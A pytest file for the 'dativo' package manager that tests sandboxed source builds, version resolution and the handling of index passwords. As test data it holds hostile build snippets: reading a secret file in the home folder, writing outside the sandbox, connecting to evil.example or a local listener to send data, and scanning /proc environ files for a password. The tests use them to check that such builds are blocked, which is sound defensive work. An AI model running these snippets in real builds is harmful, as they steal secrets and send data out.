"""Building a package runs a stranger's program: it gets its folder and the index, and what it tries besides is told."""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading

import pytest

from tests.plugins import tiny
from tests.plugins.shelf import Shelf, plugin
from tests.workspace import Workspace


@pytest.fixture
def shop(shelved):
    return shelved


def nothing_is_left(workspace):
    assert not (workspace.folder / "dativo.lock").exists()
    assert (workspace.folder / "dativo.yml").read_text() == ""
    envs = workspace.home / "data" / "envs"
    assert not envs.exists() or list(envs.iterdir()) == []
    work = workspace.home / "cache" / "work"
    assert not work.exists() or list(work.iterdir()) == []


def test_a_source_distribution_is_built_in_the_sandbox_and_locked_by_its_own_hash(shop, tmp_path):
    shop.shelf.sdist(plugin(tmp_path / "p", "tap-src"), "tap-src")
    said = shop.dativo("add", "tap-src").expect()
    assert "tap-src 1.0 has no wheel: built in the sandbox" in said.stderr
    lock = (shop.folder / "dativo.lock").read_text()
    assert "built =" not in lock  # what is locked is the file of the index
    digest = shop.dativo("list", "--json").expect().json[0]["digest"]
    # elsewhere, with nothing cached, the same lock gives the same digest
    other = Workspace(tmp_path / "elsewhere", tmp_path / "other-home")
    for name in ("dativo.yml", "dativo.lock"):
        shutil.copy(shop.folder / name, other.folder)
    other.dativo("sync", "--frozen").expect()
    assert other.dativo("list", "--json").expect().json[0]["digest"] == digest
    assert (other.folder / "dativo.lock").read_text() == lock


def test_of_the_plugin_itself_the_newest_is_taken_even_without_a_wheel(shop, tmp_path):
    shop.shelf.wheel(plugin(tmp_path / "old", "tap-src"))
    shop.shelf.sdist(plugin(tmp_path / "new", "tap-src", version="2.0"), "tap-src", "2.0")
    shop.dativo("add", "tap-src").expect()
    assert shop.dativo("list", "--json").expect().json[0]["version"] == "2.0"


def test_a_prerelease_is_not_the_newest(shop, tmp_path):
    """uv takes none that was not asked for, so nothing is to be built because there is one."""
    shop.shelf.wheel(plugin(tmp_path / "old", "tap-src"))
    shop.shelf.wheel(plugin(tmp_path / "new", "tap-src", version="2.0.dev1"))
    assert "has no wheel" not in shop.dativo("add", "tap-src").expect().stderr
    assert shop.dativo("list", "--json").expect().json[0]["version"] == "1.0"
    shop.dativo("add", "tap-src>=2.0.dev1").expect()
    assert shop.dativo("list", "--json").expect().json[0]["version"] == "2.0.dev1"


SECRET = "the-secret-of-the-home"


def attacks(tmp_path, port):
    import pwd

    home = pwd.getpwuid(os.getuid()).pw_dir
    written = f"{home}/.dativo-test-written"
    return {
        "reads a home": (f"open({home + '/.dativo-test-secret'!r}).read()", "read", f"{home}/.dativo-test-secret"),
        "writes elsewhere": (f"open({written!r}, 'w').write('x')", "write", written),
        "reaches a host": (
            f"import socket; socket.create_connection(('127.0.0.1', {port}), 5).sendall(b'leak')", "reach", f"{port}"
        ),
        "reaches a name": (
            "import socket; socket.create_connection(('evil.example', 443), 5)", "reach", "evil.example"
        ),
    }  # fmt: skip


@pytest.fixture
def listener():
    """Somebody who must not hear of it."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        heard: list[bytes] = []
        over = threading.Event()

        def listen():
            while not over.is_set():
                try:
                    peer, _ = server.accept()
                except TimeoutError:
                    continue
                with peer:
                    heard.append(peer.recv(16))

        thread = threading.Thread(target=listen)
        thread.start()
        yield server.getsockname()[1], heard
        over.set()
        thread.join()


@pytest.mark.parametrize("way", ["index", "folder", "git"])
def test_a_build_that_attacks_fails_and_the_install_says_why(shop, tmp_path, listener, way):
    import pwd
    from pathlib import Path

    port, heard = listener
    bait = Path(pwd.getpwuid(os.getuid()).pw_dir) / ".dativo-test-secret"
    bait.write_text(SECRET)
    some = attacks(tmp_path, port)
    chosen = some if way == "index" else {"reads a home": some["reads a home"]}
    try:
        for number, (attack, verb, what) in enumerate(chosen.values()):
            name = f"tap-evil{number}"
            folder = plugin(tmp_path / name, name, attack=attack)
            if way == "index":
                shop.shelf.sdist(folder, name)
                asked = name
            elif way == "folder":
                asked = str(folder)
            else:
                tiny.commit(folder)
                asked = f"git+file://{folder}"
            error = json.loads(shop.dativo("add", asked, "--as", name, "--json").expect(3).stdout)
            assert error["code"] == "plugin.build_denied", error
            assert f"the build tried to {verb}" in error["message"] and what in error["message"]
            assert SECRET not in json.dumps(error)
            nothing_is_left(shop)
        assert heard == []
        assert not bait.with_name(".dativo-test-written").exists()
    finally:
        bait.unlink()


def test_a_trusted_folder_is_built_as_it_is(shop, tmp_path):
    note = tmp_path / "outside.txt"
    folder = plugin(tmp_path / "p", "tap-mine", attack=f"open({str(note)!r}, 'w').write('x')")
    shop.dativo("add", folder, "--trust-build").expect()
    assert note.read_text() == "x"


def test_a_build_never_holds_the_indexs_password(tmp_path, monkeypatch):
    """It is asked for by Dativo, not by the build: all that a build can read has no trace of it."""
    look = """
    import glob
    said = str(dict(os.environ))
    for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
        try:
            said += open(path, errors='replace').read()
        except PermissionError:
            pass
    assert 'hunter2' not in said, 'it is there'
"""
    with Shelf(tmp_path / "shelf", ("anna", "hunter2")) as shelf:
        shelf.sdist(plugin(tmp_path / "p", "tap-src", attack=look), "tap-src")
        monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv"))
        monkeypatch.setenv("SHELF_PASSWORD", "hunter2")
        workspace = Workspace(tmp_path / "project", tmp_path / "home")
        index = {"url": shelf.url, "username": "anna", "password": "secret://env/SHELF_PASSWORD", "default": True}
        (workspace.folder / "dativo.yml").write_text(json.dumps({"index": {"shelf": index}}))
        said = workspace.shell("SHELF_PASSWORD=hunter2 UV_CACHE_DIR=$PWD/uv dativo add tap-src --json")
        said.expect()
        assert shelf.seen
        kept = [path for path in [*workspace.folder.rglob("*"), *workspace.home.rglob("*")] if path.is_file()]
        assert not [path for path in kept if b"hunter2" in path.read_bytes()]
        wrong = workspace.shell("SHELF_PASSWORD=wrong-one UV_CACHE_DIR=$PWD/uv2 dativo add tap-other --json")
        error = json.loads(wrong.expect(2).stdout)
        assert error["code"] == "index.denied"
        assert "wrong-one" not in wrong.stdout + wrong.stderr


def test_the_newest_version_is_taken_although_what_it_needs_has_no_wheel(shelved, tmp_path):
    """Among wheels alone the resolver would go back to the version that needs nothing."""
    shelved.shelf.sdist(tiny.make(tmp_path / "lib", "lib-source", scripts=()), "lib-source")
    shelved.shelf.wheel(tiny.make(tmp_path / "one", "tap-aged"))
    shelved.shelf.wheel(tiny.make(tmp_path / "two", "tap-aged", version="2.0", dependencies=("lib-source",)))
    said = shelved.dativo("add", "tap-aged").expect().stderr
    assert "tap-aged 2.0, or what it needs, has no wheel" in said
    (one,) = shelved.dativo("list", "--json").expect().json
    assert one["version"] == "2.0"


def test_an_older_version_is_taken_where_the_newest_cannot_be_had(shelved, tmp_path):
    shelved.shelf.wheel(tiny.make(tmp_path / "one", "tap-aged"))
    shelved.shelf.wheel(tiny.make(tmp_path / "two", "tap-aged", version="2.0", dependencies=("lib-of-nobody",)))
    shelved.dativo("add", "tap-aged").expect()
    (one,) = shelved.dativo("list", "--json").expect().json
    assert one["version"] == "1.0"
